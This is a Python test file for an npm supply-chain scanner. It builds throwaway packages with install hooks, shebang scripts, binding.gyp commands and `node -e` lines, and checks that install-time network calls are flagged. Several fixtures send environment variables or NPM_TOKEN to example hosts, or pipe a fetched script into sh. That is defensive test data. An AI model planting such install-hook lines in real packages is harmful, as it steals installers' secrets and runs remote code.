"""What npm install hooks run is read whatever its form: `npm run x`, `./setup`, `python3 x.py`, `node .`, binding.gyp."""

from __future__ import annotations

import json
from pathlib import Path

from egress.model import FindingKind, Timing
from tests.pipeline import scan_one


def _package(root: Path, scripts: dict | None, files: dict[str, str]) -> Path:
    root.mkdir()
    manifest = {"name": root.name, "version": "1.0.0", "main": "index.js"}
    if scripts is not None:
        manifest["scripts"] = scripts
    (root / "package.json").write_text(json.dumps(manifest, indent=2))
    for path, text in files.items():
        (root / path).parent.mkdir(parents=True, exist_ok=True)
        (root / path).write_text(text)
    return root


def _install_network(root: Path, cache: Path) -> list[tuple[str, str, int]]:
    package = scan_one(root, cache)
    return sorted((f.api, f.file, f.line) for f in package.findings
                  if f.kind is FindingKind.NETWORK and f.timing is Timing.INSTALL)


def test_npm_run_of_another_script(tmp_path: Path) -> None:
    root = _package(tmp_path / "h05", {"postinstall": "npm run fetchit", "fetchit": "curl -s https://h05.example.com/x -o x"},
                    {"index.js": "module.exports = 1;\n"})
    assert _install_network(root, tmp_path / "c") == [("curl", "package.json", 6)]


def test_an_extensionless_executable_read_by_its_shebang(tmp_path: Path) -> None:
    root = _package(tmp_path / "h01", {"postinstall": "./setup"},
                    {"setup": "#!/bin/sh\ncurl -s -d \"$(env)\" https://h01.example.com/c\n",
                     "tool": "#!/usr/bin/env node\nrequire('https').get('https://h01.example.com/n');\n",
                     "index.js": "module.exports = 1;\n"})
    assert _install_network(root, tmp_path / "c") == [("curl", "setup", 2)]
    other = _package(tmp_path / "h01b", {"install": "./tool"},
                     {"tool": "#!/usr/bin/env node\nrequire('https').get('https://h01.example.com/n');\n",
                      "index.js": "module.exports = 1;\n"})
    assert _install_network(other, tmp_path / "c2") == [("https.get", "tool", 2)]


def test_a_python_file_a_hook_runs(tmp_path: Path) -> None:
    root = _package(tmp_path / "h08", {"preinstall": "python3 tools/pre.py"},
                    {"tools/pre.py": "import os, socket\ns = socket.create_connection(('198.51.100.9', 80))\n"
                                     "s.sendall(os.environ['NPM_TOKEN'].encode())\n",
                     "index.js": "module.exports = 1;\n"})
    package = scan_one(root, tmp_path / "c")
    assert ("installTimeNetwork", "tools/pre.py", 2) in {(a.type, a.finding.file, a.finding.line) for a in package.alerts}


def test_node_dot_runs_main_at_install(tmp_path: Path) -> None:
    root = _package(tmp_path / "h06", {"postinstall": "node ."},
                    {"index.js": "require('https').get('https://h06.example.com/?e=' + JSON.stringify(process.env));\n"})
    assert _install_network(root, tmp_path / "c") == [("https.get", "index.js", 1)]


def test_binding_gyp_commands_run_when_npm_builds_the_addon(tmp_path: Path) -> None:
    gyp = ('{ "targets": [ { "target_name": "x",\n'
           '  "sources": [ "<!(curl -s https://gyp.example.com/?e=$(env|base64 -w0))" ] } ] }\n')
    root = _package(tmp_path / "b06", None, {"binding.gyp": gyp, "index.js": "module.exports = 1;\n"})
    assert _install_network(root, tmp_path / "c") == [("curl", "binding.gyp", 2)]
    # a package with its own install script: npm does not run node-gyp for it
    own = _package(tmp_path / "b07", {"install": "echo done"}, {"binding.gyp": gyp, "index.js": "module.exports = 1;\n"})
    assert _install_network(own, tmp_path / "c2") == []


def test_each_hook_is_rated_by_what_it_runs(tmp_path: Path) -> None:
    root = _package(tmp_path / "x05", {"prepare": "curl -s https://x05.example.com/p -o p",
                                       "postinstall": "echo see https://docs.example.com/setup",
                                       "install": "node build.js"},
                    {"build.js": "require('https').get('https://x05.example.com/b');\n",
                     "index.js": "module.exports = 1;\n"})
    package = scan_one(root, tmp_path / "c")
    hooks = {a.finding.api: a.severity.value for a in package.alerts if a.type == "installScripts"}
    assert hooks == {"scripts.prepare": "high", "scripts.postinstall": "low", "scripts.install": "high"}


def test_node_reading_a_script_from_stdin(tmp_path: Path) -> None:
    """`node < setup.txt`: Node runs the file as JavaScript whatever its name."""
    root = _package(tmp_path / "h20", {"preinstall": "node < ./setup.txt"},
                    {"index.js": "module.exports = 1;\n",
                     "setup.txt": "require('https').get('https://h20.example.com/x');\n"})
    assert _install_network(root, tmp_path / "c") == [("https.get", "setup.txt", 1)]


def test_package_managers_fetching_at_install(tmp_path: Path) -> None:
    """`npx x@latest`, `npm install <url>`, `pip install`: downloads at install; `npx tsc` runs a local bin."""
    root = _package(tmp_path / "h21", {
        "preinstall": "npx --yes helper-tool@latest setup",
        "install": "npm install --no-save https://h21.example.com/p.tgz && npx tsc",
        "postinstall": "python3 -m pip install --user requests",
        "prepare": "npm view left-pad version",
    }, {"index.js": "module.exports = 1;\n"})
    assert _install_network(root, tmp_path / "c") == [
        ("npm install (fetches a package)", "package.json", 7),
        ("npm view (queries the package registry)", "package.json", 9),
        ("npx (fetches a package)", "package.json", 6),
        ("pip install (fetches a package)", "package.json", 8),
    ]


def test_files_started_as_new_node_processes_run(tmp_path: Path) -> None:
    """`fork(path.join(__dirname, 'b.js'))` at the top of an install script runs b.js at install; a
    file main spawns with `process.execPath` runs too, wherever it sits (scripts/ is no excuse)."""
    root = _package(tmp_path / "h22", {"postinstall": "node scripts/a.js"}, {
        "index.js": "const { spawn } = require('child_process');\nconst path = require('path');\n"
                    "function later() { spawn(process.execPath, [path.join(__dirname, 'scripts', 'p.js')]); }\n"
                    "module.exports = later;\n",
        "scripts/a.js": "require('child_process').fork(require('path').join(__dirname, 'b.js'), {detached: true});\n",
        "scripts/b.js": "require('https').get('https://h22.example.com/b');\n",
        "scripts/p.js": "require('https').get('https://h22.example.com/p');\n",
    })
    package = scan_one(root, tmp_path / "c")
    rows = sorted((f.api, f.file, f.line, f.role.value, f.timing.value) for f in package.findings
                  if f.kind is FindingKind.NETWORK)
    assert rows == [("https.get", "scripts/b.js", 1, "shipped", "install"),
                    ("https.get", "scripts/p.js", 1, "shipped", "runtime")]
    assert {a.type for a in package.alerts} >= {"networkAccess", "installTimeNetwork"}


def test_binding_gyp_actions_run_when_npm_builds_the_addon(tmp_path: Path) -> None:
    """A gyp `action` is a command node-gyp runs at build time, as npm installs the package."""
    root = _package(tmp_path / "h23", None, {
        "index.js": "module.exports = 1;\n",
        "binding.gyp": "{ 'targets': [ { 'target_name': 'x', 'sources': [],\n"
                       "  'actions': [ { 'action_name': 'a', 'inputs': [], 'outputs': ['o'],\n"
                       "     'action': ['sh', '-c', 'curl -s https://h23.example.com/p | sh'] } ] } ] }\n",
    })
    assert _install_network(root, tmp_path / "c") == [("curl", "binding.gyp", 3)]


def test_inline_code_a_hook_script_runs_is_analysed_on_its_line(tmp_path: Path) -> None:
    """`node -e "…"` inside the shell script a hook runs, and inside a binding.gyp expansion."""
    root = _package(tmp_path / "h24", {"preinstall": "sh ./setup.sh"}, {
        "index.js": "module.exports = 1;\n",
        "setup.sh": "#!/bin/sh\necho start\nnode -e \"require('https').get('https://h24.example.com/s')\"\n",
    })
    assert _install_network(root, tmp_path / "c") == [("https.get", "setup.sh", 3)]
    gyp = _package(tmp_path / "h25", None, {
        "index.js": "module.exports = 1;\n",
        "binding.gyp": "{'targets':[{'target_name':'y',\n"
                       "'sources':['<!(node -e \"require(\\'https\\').get(\\'https://h25.example.com/\\')\")']}]}\n",
    })
    assert _install_network(gyp, tmp_path / "c2") == [("https.get", "binding.gyp", 2)]
